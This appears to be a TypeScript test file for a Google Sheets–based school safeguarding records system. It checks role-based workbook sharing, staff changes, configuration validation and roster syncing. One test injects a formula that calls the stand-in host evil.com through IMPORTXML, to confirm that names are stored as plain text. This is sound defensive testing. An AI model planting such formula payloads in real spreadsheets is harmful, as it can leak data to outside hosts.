import { issueToken } from '../../src/local/emulator/rest/auth';
import { route } from '../../src/local/emulator/rest/router';
import { WORKBOOKS, type WorkbookName } from '../../src/register/layout';
import { AT, PEOPLE, SCHOOL } from './invented-school';
import { bareSchool, CONFIGURATION, installedSchool, type SmallSchool, workingSchool } from './small-school';

/** What the Sheets API answers when somebody asks for the first cells of a workbook's Log. */
function readingAs(school: SmallSchool, user: string, name: WorkbookName): number {
  const scopes = ['https://www.googleapis.com/auth/spreadsheets'];
  const { value } = issueToken(school.tenant.world, { user, scopes, kind: 'script' });
  const url = `https://sheets.googleapis.com/v4/spreadsheets/${school.fileId(name)}/values/Log!A1:C3`;
  const headers = { authorization: `Bearer ${value}` };
  return route(school.tenant.world, { method: 'GET', url: new URL(url), headers, body: '' }).status;
}

function writers(school: SmallSchool): Record<WorkbookName, string[]> {
  return Object.fromEntries(WORKBOOKS.map((name) => [name, [...school.file(name).writers].sort()])) as Record<
    WorkbookName,
    string[]
  >;
}

describe('who can open which workbook', () => {
  test('each is shared with those in post for it and with nobody else', () => {
    expect(writers(workingSchool())).toEqual({
      incidents: [AT.dsl, AT.deputy],
      'staff-concerns': [AT.head],
      registers: [AT.head, AT.slt],
      roster: [],
      system: [AT.it],
      'chair-concerns': [],
    });
  });

  test('Sheets shows it to them and refuses everybody else', () => {
    const school = workingSchool();
    for (const name of WORKBOOKS) {
      const allowed = new Set([AT.role, ...school.file(name).writers]);
      for (const user of Object.values(AT).filter((address) => address !== AT.suspended)) {
        expect([name, user, readingAs(school, user, name)]).toEqual([
          name,
          user,
          allowed.has(user) ? 200 : 403,
        ]);
      }
    }
  });

  test('those who are no longer in post are taken out, and who follows them is let in', () => {
    const school = workingSchool();
    school.configurePeople((people) =>
      people
        .replace(',deputy-dsl,', ',deputy-dsl@..2026-11-20;staff,')
        .replace(',slt,', ',staff,')
        .replace(',it-admin,', ',it-admin@2026-12-01..;staff,')
        .replace('S1,Tess Marlow,staff', 'S1,Tess Marlow,deputy-dsl;slt'),
    );
    expect(writers(school)).toEqual({
      incidents: [AT.dsl, AT.teacher],
      'staff-concerns': [AT.head],
      registers: [AT.head, AT.teacher],
      roster: [],
      system: [],
      'chair-concerns': [],
    });
    expect(readingAs(school, AT.deputy, 'incidents')).toBe(403);
    expect(readingAs(school, AT.slt, 'registers')).toBe(403);
  });

  test('where the owner also shares by hand, whom they let in stays', () => {
    const school = workingSchool();
    school.file('registers').writers.push('office@hillside.example');
    school.file('roster').writers.push('data@hillside.example');
    school.configurePeople((people) => people.replace(',slt,', ',staff,'));
    expect(writers(school)).toMatchObject({
      registers: [AT.head, 'office@hillside.example'],
      roster: ['data@hillside.example'],
    });
  });

  test('an acting head opens what the Headteacher opens, while they act', () => {
    const acting = (to: string) => ({
      ...CONFIGURATION.files,
      'school.json': JSON.stringify({
        ...SCHOOL,
        desks: { ...SCHOOL.desks, 'acting-head': [{ id: 'L1', from: '2026-11-01', to }] },
      }),
    });
    const school = workingSchool();
    school.configure({ files: acting('2026-11-24') });
    expect(writers(school)['staff-concerns']).toEqual([AT.head, AT.slt]);
    school.configure({ files: acting('2026-11-23') });
    expect(writers(school)['staff-concerns']).toEqual([AT.head]);
  });
});

describe('taking over the school’s files', () => {
  test.each([
    ['people.csv', PEOPLE.replace('2016-03-04', '2016-02-30'), /^people\.csv, row 12, column date_of_birth/],
    ['people.csv', PEOPLE.replace(',slt,', ',head of year,'), /^people\.csv, row 5, column roles/],
    ['people.csv', PEOPLE.replace(AT.colleague, AT.teacher), /^people\.csv, row 8, column school_email/],
    ['school.json', '{"name": "Hillside"', /^school\.json: is not JSON/],
    ['school.json', JSON.stringify({ ...SCHOOL, domains: [] }), /^school\.json, column domains/],
    [
      'approvals.csv',
      'id,person_id,granted_by,granted_on\nA1,nobody,H1,2026-09-01',
      /^approvals\.csv, row 2/,
    ],
    ['groups.csv', 'address,name,members\noffice,Office,', /^groups\.csv, row 2/],
  ])('a problem in %s changes nothing at all', (file, text, problem) => {
    const school = bareSchool();
    school.call('setUp');
    const properties = () => JSON.stringify([...school.tenant.properties('service')]);
    const before = properties();
    const { problems } = school.configure({ files: { ...CONFIGURATION.files, [file]: text } });
    expect(problems).toHaveLength(1);
    expect(problems[0]).toMatch(problem);
    expect(properties()).toBe(before);
    expect(school.entries()).toBe(0);
    expect(Object.values(writers(school)).flat()).toEqual([]);
  });

  test('the same files a second time file nothing new', () => {
    const school = installedSchool();
    const before = school.entries();
    const writes = school.callsOf(() => school.configurePeople((people) => people));
    expect(writes.filter(({ name }) => name === 'sheets.spreadsheets.batchUpdate')).toEqual([]);
    expect(school.entries()).toBe(before);
    expect(school.problems()).toEqual([]);
  });

  test('a person gone from people.csv is gone from the roster, and comes back when the row does', () => {
    const school = installedSchool();
    const names = () => school.rows('roster', 'People').map(({ name }) => name);
    const everybody = names();
    school.configurePeople((people) => people.replace(/^S2,.*\n/m, ''));
    expect(names()).toEqual(everybody.filter((name) => name !== 'Ray Quill'));
    school.configurePeople((people) => people);
    expect(names().sort()).toEqual([...everybody].sort());
    expect(school.problems()).toEqual([]);
  });

  test('classes, desks and groups that are no longer in the files go, too', () => {
    const school = installedSchool();
    const groups = 'address,name,members\noffice@hillside.example,Office,t.marlow@hillside.example';
    school.configure({ files: { ...CONFIGURATION.files, 'groups.csv': groups } });
    expect(school.rows('roster', 'Groups')).toHaveLength(1);
    expect(school.rows('roster', 'Classes')).toMatchObject([{ class: '5B', teachers: 'S1', pupils: 1 }]);
    const desks = { ...SCHOOL.desks, 'deputy-dsl': [] };
    school.configure({
      files: {
        'school.json': JSON.stringify({ ...SCHOOL, desks }),
        'people.csv': PEOPLE.replace(/,5B/g, ',6B'),
      },
    });
    expect(school.rows('roster', 'Groups')).toEqual([]);
    expect(school.rows('roster', 'Classes').map((row) => row.class)).toEqual(['6B']);
    expect(school.rows('roster', 'Desks').map(({ desk }) => desk)).not.toContain('deputy-dsl');
    expect(school.problems()).toEqual([]);
  });

  test('names that look like formulas stay names', () => {
    const school = installedSchool();
    school.configurePeople((people) =>
      people.replace('Tess Marlow', '"=IMPORTXML(""http://evil.example"")"'),
    );
    const sheet = school.tenant.world.workbooks.get(school.fileId('roster'))!.sheets[0]!;
    const held = sheet.rows.flatMap((row) => row?.values ?? []);
    expect(held).toContain('=IMPORTXML("http://evil.example")');
    expect(held.filter((cell) => typeof cell === 'object' && cell !== null)).toEqual([]);
  });

  test('four hundred accounts named one by one are not too many', () => {
    const school = workingSchool();
    const accounts = Array.from({ length: 400 }, (_, i) => `somebody.${i}@hillside.example`);
    expect(school.run('configure', { ...CONFIGURATION, accounts }).error).toBeNull();
    school.configure({ accounts: [AT.teacher] });
    expect(
      school.callsOf(() => school.sweep()).filter(({ name }) => name === 'gmail.users.history.list'),
    ).toHaveLength(1);
  });

  test('a group of two thousand members is kept whole, and each of them is known as its member', () => {
    const school = workingSchool();
    const members = Array.from({ length: 2000 }, (_, i) => `parent.${i}@mail.example`).join(';');
    const files = {
      ...CONFIGURATION.files,
      'groups.csv': `address,name,members\nall@hillside.example,All,${members}`,
    };
    expect(school.configure({ files }).problems).toEqual([]);
    expect(school.rows('roster', 'Groups')[0]!.members).toBe(members);
    expect(school.problems()).toEqual([]);
  });

  test('a cell that no spreadsheet holds is refused by file, row and column, and nothing is written', () => {
    const school = workingSchool();
    const before = school.entries();
    const members = Array.from({ length: 3000 }, (_, i) => `parent.${i}@mail.example`).join(';');
    const groups = `address,name,members\nall@hillside.example,All,${members}`;
    const { problems } = school.configure({ files: { ...CONFIGURATION.files, 'groups.csv': groups } });
    expect(problems).toEqual([
      `groups.csv, row 2, column members: has ${members.length} characters; a spreadsheet's cell holds 50000`,
    ]);
    expect(school.entries()).toBe(before);
  });
});
